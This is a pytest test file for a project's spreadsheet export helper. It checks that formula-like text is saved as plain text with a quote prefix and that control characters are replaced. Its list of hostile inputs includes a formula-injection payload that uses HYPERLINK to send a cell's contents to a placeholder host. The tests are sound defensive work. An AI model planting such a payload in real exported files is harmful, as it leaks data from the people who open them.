"""Spreadsheet exports keep every text as text: no formula injection (issue 8, item 5)."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kerjasama.core import xlsx

HOSTILE = [
    '=HYPERLINK("http://x?leak="&A1,"d")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "=",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_writes_a_formula_like_text_as_the_exact_text(text: str) -> None:
    book = xlsx.new_workbook()
    sheet = book.active
    assert sheet is not None
    xlsx.append_row(sheet, ["label", text, 42, None])
    xlsx.set_cell(sheet, row=2, column=1, value=text)
    reloaded = load_workbook(io.BytesIO(xlsx.to_bytes(book))).active
    assert reloaded is not None
    for cell in (reloaded["B1"], reloaded["A2"]):
        assert cell.data_type == "s", f"{text!r} was stored as {cell.data_type!r}"
        assert cell.value == text  # openpyxl writes a carriage return escaped (_x000D_) through lxml
    assert reloaded["C1"].value == 42 and reloaded["C1"].data_type == "n"


def test_it_marks_a_text_that_starts_like_a_formula_with_the_quote_prefix() -> None:
    book = xlsx.new_workbook()
    sheet = book.active
    assert sheet is not None
    xlsx.append_row(sheet, ["=1+1", "biasa", "-5"])
    reloaded = load_workbook(io.BytesIO(xlsx.to_bytes(book))).active
    assert reloaded is not None
    assert reloaded["A1"].quotePrefix and reloaded["C1"].quotePrefix
    assert not reloaded["B1"].quotePrefix


def test_it_builds_every_workbook_of_the_project_through_the_safe_helper() -> None:
    """No module but ``core/xlsx.py`` makes an openpyxl ``Workbook`` (exports go through the helper)."""
    root = Path(xlsx.__file__).resolve().parents[1]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "xlsx.py"
        and re.search(r"\bWorkbook\(|import[^\n]*\bWorkbook\b", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@pytest.mark.parametrize("char", ["\x01", "\x07", "\x0b", "\x0c", "\x1b", "\x1f"])
def test_it_writes_a_text_with_an_unstorable_control_character_with_a_replacement_mark(char: str) -> None:
    # openpyxl refuses such a cell (IllegalCharacterError), which made the whole export fail with a 500.
    book = xlsx.new_workbook()
    sheet = book.active
    assert sheet is not None
    text = f"Sampah{char}TPA Piyungan"
    xlsx.append_row(sheet, [text])
    xlsx.set_cell(sheet, row=2, column=1, value=text)
    reloaded = load_workbook(io.BytesIO(xlsx.to_bytes(book))).active
    assert reloaded is not None
    assert reloaded["A1"].value == reloaded["A2"].value == "Sampah\ufffdTPA Piyungan"
